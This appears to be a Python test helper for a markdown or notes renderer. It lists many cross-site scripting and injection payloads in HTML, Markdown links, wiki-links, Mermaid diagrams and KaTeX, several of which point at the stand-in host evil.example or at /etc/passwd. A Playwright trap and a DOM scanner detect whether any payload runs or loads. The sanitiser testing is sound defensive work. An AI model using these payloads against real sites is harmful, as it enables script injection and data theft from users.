"""Texts that would run, load or lead somewhere if a page made more of them than text, and a trap that sees it."""

from dataclasses import dataclass, field
from typing import Final

from playwright.sync_api import ConsoleMessage, Dialog, Page, Request

EVIL: Final = "http://evil.example"
RUN: Final = "owned(1)"
"""What each payload would call; the trap hears it, in frames and after a change of the address too."""
PICTURE: Final = f'<img src=x onerror="{RUN}">'
HTML: Final = (
    PICTURE,
    f"<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' '",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='{EVIL}/frame'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='{EVIL}/form'><button>Send</button></form>",
    f"<button form=x formaction='javascript:{RUN}'>x</button>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    f"<link rel=stylesheet href='{EVIL}/sheet.css'>",
    f"<link rel=prefetch href='{EVIL}/prefetch'>",
    f"<style>@import '{EVIL}/import.css'; * {{ background: url({EVIL}/background) }}</style>",
    f"<div style='background:url({EVIL}/style);position:fixed;inset:0'>x</div>",
    f"<table background='{EVIL}/table'><td>x</table>",
    f"<img src='{EVIL}/pixel' srcset='{EVIL}/pixel 2x'>",
    f"<img src=x:x onerror={RUN} />",
    f"<a href='javascript:{RUN}' target=_self>x</a>",
    f"<a ping='{EVIL}/ping' href='#'>x</a>",
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>x</a>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<x contenteditable onblur={RUN} tabindex=1 id=x>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>".replace("\x00", "\u200b"),
    "<form id=app name=body><input name=innerHTML id=main></form>",
)
LINKS: Final = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](\\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==)",
    f"[x](blob:{EVIL}/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/protocol)",
    "[x](\\\\evil.example\\share)",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f'[x]({EVIL}/title "\\" onclick={RUN}")',
    f'![x]({EVIL}/image "\\" onerror={RUN}")',
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f'![" onerror="{RUN}](x.png)',
    f"[![x]({EVIL}/inside)](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"<{EVIL}/angled?{RUN}>",
    f"[[javascript:{RUN}]]",
    f'[[x" onclick="{RUN}|shown]]',
    f"![[{EVIL}/embed]]",
    f"![[x.svg|<svg onload={RUN}>]]",
    f"[[../../../etc/passwd|{PICTURE}]]",
    f"https://user:{RUN}@evil.example/",
)
MARKDOWN: Final = (
    f'```html" onmouseover="{RUN}\n</code></pre><script>{RUN}</script>\n```',
    f"`</code><script>{RUN}</script>`",
    f"| <b onmouseover={RUN}>cell</b> | {PICTURE} |\n|:-:|---|\n| [x](javascript:{RUN}) | `<script>` |",
    f'> [!x" onclick="{RUN}] {PICTURE}\n> text',
    f"> [!note]- {PICTURE}\n> folded",
    f"- [x] <input autofocus onfocus={RUN}>",
    f"x[^{PICTURE}]\n\n[^{PICTURE}]: {PICTURE}",
    "x[^__proto__]\n\n[^__proto__]: x",
    "# main",
    "# app",
    "# constructor",
    f'# {PICTURE} ^block" id=app',
    f"=={PICTURE}== %%{PICTURE}%% ~~{PICTURE}~~",
    f"#tag{PICTURE}",
    "{{7*7}} ${7*7} <%= 7*7 %> {{constructor.constructor('owned(1)')()}}",
    f"x {{: onclick={RUN} }} {{#app .k-shell style=position:fixed}}",
    f'x ^id"onclick="{RUN}',
    f"\u202e)1(denwo\u202c \u2066{PICTURE}\u2069",
    f"http://evil.example/\u202egnp.exe {RUN}",
)
DIAGRAMS: Final = (
    f'```mermaid\ngraph TD\nA["<img src=x onerror={RUN}>"] --> B["<script>{RUN}</script>"]\n```',
    f'```mermaid\ngraph TD\nA-->B\nclick A href "javascript:{RUN}"\nclick B call {RUN}\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose", "flowchart": {{"htmlLabels": true}}}}}}%%\ngraph TD\n'
    f'A["<img src={EVIL}/diagram onerror={RUN}>"]\n```',
    f'```mermaid\n%%{{init: {{"themeCSS": "@import url({EVIL}/theme.css); * {{ background: url({EVIL}/css) }}"}}}}%%\n'
    "graph TD\nA\n```",
    f"```mermaid\nsequenceDiagram\nA->>B: <svg onload={RUN}>\nlink A: x @ javascript:{RUN}\n```",
    f'```mermaid\nclassDiagram\nclass A["{PICTURE}"]\nlink A "javascript:{RUN}" "x"\n```',
)
MATHS: Final = (
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\includegraphics{{{EVIL}/maths.png}}$",
    f"$\\htmlData{{x=1}}{{x}} \\htmlStyle{{background:url({EVIL}/maths)}}{{x}} \\htmlId{{app}}{{x}}$",
    f"$$\\text{{{PICTURE}}}$$",
    f"$\\def\\x{{\\x\\x}}\\x$ $\\unicode{{<script>{RUN}</script>}}$",
)
PAYLOADS: Final = (*HTML, *LINKS, *MARKDOWN, *DIAGRAMS, *MATHS)

_FIND_BAD: Final = """() => {
  const own = location.origin, bad = [], ids = new Map();
  const say = (why, node) => bad.push(`${why}: ${node.outerHTML.slice(0, 300)}`);
  const NEVER = new Set(["object", "embed", "base", "applet", "frame", "frameset", "marquee", "portal", "template",
    "style", "foreignobject", "animate", "animatetransform", "set", "image", "use", "mglyph", "x", "noembed"]);
  const REFUSED = /^on|^(srcdoc|formaction|ping|background|dynsrc|lowsrc|xlink:href|contenteditable|shadowrootmode)$/i;
  const FOLLOWED = /^(https?|mailto|blob|obsidian):$/;
  const LEADS = new Set(["href", "src", "action", "data", "poster", "cite", "srcset", "formaction", "background"]);
  const schemeOf = (text) => { try { return new URL(text, location.href).protocol; } catch { return "none"; } };
  const CHECKS = {
    script: (n) => n.src.startsWith(`${own}/page/`),
    iframe: (n) => n.className === "k-diagram-frame" && n.getAttribute("src") === "/page/diagrams.html"
      && n.getAttribute("sandbox") === "allow-scripts",
    img: (n) => n.src.startsWith("blob:") || n.src.startsWith(`${own}/page/`),
    audio: (n) => n.src.startsWith("blob:"),
    video: (n) => n.src.startsWith("blob:"),
    source: () => false,
    link: (n) => n.href.startsWith(`${own}/page/`),
    meta: (n) => !n.hasAttribute("http-equiv"),
    form: (n) => !n.hasAttribute("action"),
    svg: (n) => !n.closest(".k-prose") || n.classList.contains("k-icon") || n.closest(".katex"),
    a: (n) => !n.hasAttribute("href") || n.origin === own || n.protocol === "obsidian:"
      || (n.target === "_blank" && n.relList.contains("noopener") && /^(https?|mailto):$/.test(n.protocol)),
  };
  for (const node of document.querySelectorAll("*")) {
    const name = node.localName.toLowerCase();
    if (NEVER.has(name)) say("element", node);
    if (Object.hasOwn(CHECKS, name) && !CHECKS[name](node)) say("element", node);
    for (const { name: attribute, value } of node.attributes) {
      if (REFUSED.test(attribute)) say("attribute", node);
      if (LEADS.has(attribute) && !FOLLOWED.test(schemeOf(value))) say("address", node);
      if (attribute === "style" && /url\\(|expression|@import|script|fixed/i.test(value)) say("style", node);
    }
    if (node.id) ids.set(node.id, [...(ids.get(node.id) ?? []), node]);
  }
  for (const same of ids.values()) if (same.length > 1) say("id that another has", same[1]);
  return bad;
}"""


@dataclass(kw_only=True)
class Trap:
    """Hears what a page runs, asks for and complains of."""

    tab: Page
    address: str
    ran: list[str] = field(default_factory=list[str])
    elsewhere: list[str] = field(default_factory=list[str])
    complaints: list[str] = field(default_factory=list[str])

    def __post_init__(self) -> None:
        context = self.tab.context
        context.expose_function("owned", self._run)  # pyright: ignore[reportUnknownMemberType] - its type is loose
        context.on("request", self._asked)
        context.on("page", lambda page: self.ran.append(f"a window: {page.url}"))
        context.on("dialog", self._dialog)
        context.on("console", self._told)
        self.tab.on("pageerror", lambda error: self.complaints.append(f"{error} {error.stack}"))

    def check(self) -> None:
        """See that nothing ran, nothing was asked for elsewhere, and the document holds nothing of a payload's making.

        Nor did the browser have to refuse anything: a payload that its content policy stops got too far.
        """
        found = {
            "ran": self.ran,
            "asked for elsewhere": self.elsewhere,
            "refused by the browser": self.complaints,
            "in the document": self.tab.evaluate(_FIND_BAD),
        }
        found = {what: those for what, those in found.items() if those}
        assert not found, found

    def _run(self, given: object = None) -> None:
        self.ran.append(f"owned({given})")

    def _asked(self, request: Request) -> None:
        if not request.url.startswith((f"{self.address}/", "blob:")):
            self.elsewhere.append(request.url)

    def _dialog(self, dialog: Dialog) -> None:
        self.ran.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _told(self, message: ConsoleMessage) -> None:
        if message.location.get("url", "").endswith("/page/diagrams.html"):
            return  # Mermaid parses its labels as markup, in a frame without an origin that runs and loads none
        if any(word in message.text for word in ("Content Security Policy", "Trusted", "violates", "Refused to")):
            self.complaints.append(message.text)
